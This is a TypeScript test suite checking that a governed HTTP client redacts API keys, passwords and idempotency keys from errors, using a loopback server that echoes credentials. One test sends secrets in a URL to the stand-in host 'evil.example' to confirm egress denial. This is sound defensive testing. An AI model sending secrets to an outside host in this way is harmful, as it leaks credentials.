import util from 'node:util';
import { isDlxError, type DlxError } from '../errors/dlxError';
import {
  refusedOrigin,
  startLoopbackServer,
  thrownBy,
  type LoopbackServer,
} from './__fixtures__/loopbackServer';
import { createGovernedHttp } from './governedHttpClient';

/** Regression for secrets leaking through axios errors and echoed vendor bodies. */
describe('ctx.http keeps secrets out of every error', () => {
  const apiKey = 'sk_live_51AbCdEfGhIjKlMn';
  const basicPassword = 'pw/with spaces&"quotes"';
  const configOnlySecret = 'whsec_config_only_987';
  const idempotencyKey = 'idem-key-4242';
  let echo: LoopbackServer;
  const signal = new AbortController().signal;

  beforeAll(async () => {
    // A careless vendor: echoes every credential it got back in its error body and headers.
    echo = await startLoopbackServer((req, res, body) => {
      const status = req.url?.startsWith('/fail500') ? 500 : 400;
      res.writeHead(status, {
        'content-type': req.url?.includes('text') ? 'text/html' : 'application/json',
        'x-echo-auth': String(req.headers.authorization),
        'www-authenticate': `Bearer realm="${String(req.headers.authorization)}"`,
        'request-id': `req_${String(req.headers.authorization)}`,
      });
      res.end(
        JSON.stringify({
          error: {
            message: `Invalid API key provided: ${String(req.headers.authorization)}`,
            received_body: body,
            idempotency: req.headers['idempotency-key'],
            url: req.url,
          },
        }),
      );
    });
  });
  afterAll(() => echo.close());

  const client = createGovernedHttp({
    connectorKey: 'stripe',
    allowedHosts: ['127.0.0.1'],
    secrets: [configOnlySecret],
    conventions: { idempotencyHeader: 'Idempotency-Key', requestIdHeaders: ['request-id'] },
  });
  const http = client.bind({ signal, idempotencyKey });
  const secretValues = [apiKey, basicPassword, configOnlySecret, idempotencyKey];

  // How an echo may carry the password: in a query string, a form body, a JSON string.
  const encodedForms = (value: string): string[] => [
    encodeURIComponent(value),
    new URLSearchParams({ p: value }).toString().slice(2),
    JSON.stringify(value).slice(1, -1),
  ];

  const everyRendering = (error: DlxError): string[] => [
    JSON.stringify(error),
    error.message,
    String(error.stack),
    util.inspect(error, { depth: 10, showHidden: true }),
    String(JSON.stringify(error.response)),
    String(error.cause),
    JSON.stringify(error.cause ?? null),
  ];

  const expectNoSecret = (error: unknown): DlxError => {
    if (!isDlxError(error)) throw error;
    for (const rendering of everyRendering(error)) {
      for (const secret of [...secretValues, ...encodedForms(basicPassword)]) {
        expect(rendering).not.toContain(secret);
      }
      expect(rendering).not.toContain(Buffer.from(`acct:${basicPassword}`).toString('base64'));
    }
    return error;
  };

  it.each(['/fail400', '/fail500', '/fail400/text'])(
    'scrubs an echoed Bearer key, request body and idempotency key (%s)',
    async (path) => {
      const error = expectNoSecret(
        await thrownBy(() =>
          http.request({
            method: 'POST',
            url: `${echo.origin}${path}?api_key=${apiKey}&other=${configOnlySecret}`,
            headers: { Authorization: `Bearer ${apiKey}` },
            data: { note: `card for ${configOnlySecret}`, key: apiKey },
          }),
        ),
      );
      // The vendor's answer is still there for the connector's own mapping, minus the secrets.
      expect(JSON.stringify(error.response)).toContain('[REDACTED]');
      expect(error.vendorRequestId).toBe('req_[REDACTED]');
    },
  );

  it.each(['/fail400', '/fail400/text'])(
    'scrubs an echoed basic-auth password in every encoding (%s)',
    async (path) => {
      const error = expectNoSecret(
        await thrownBy(() =>
          http.request({
            method: 'POST',
            url: `${echo.origin}${path}?pw=${encodeURIComponent(basicPassword)}`,
            auth: { username: 'acct', password: basicPassword },
            data: new URLSearchParams({ password: basicPassword }),
          }),
        ),
      );
      expect(error.code).toBe('DLX_E_VENDOR_PERMANENT');
    },
  );

  it('scrubs a secret carried in the path from a network error', async () => {
    const origin = await refusedOrigin();
    const error = expectNoSecret(
      await thrownBy(() =>
        createGovernedHttp({ connectorKey: 'bot', allowedHosts: ['127.0.0.1'], secrets: [apiKey] })
          .bind({ signal })
          .request({ url: `${origin}/bot${apiKey}/sendMessage` }),
      ),
    );
    expect(error.message).toBe('bot: GET 127.0.0.1/bot[REDACTED]/sendMessage failed: ECONNREFUSED');
  });

  it('scrubs secrets from an egress denial', async () => {
    const error = expectNoSecret(
      await thrownBy(() =>
        http.request({ url: `https://evil.example/${configOnlySecret}?k=${apiKey}` }),
      ),
    );
    expect(error.code).toBe('DLX_E_EGRESS_DENIED');
  });
});
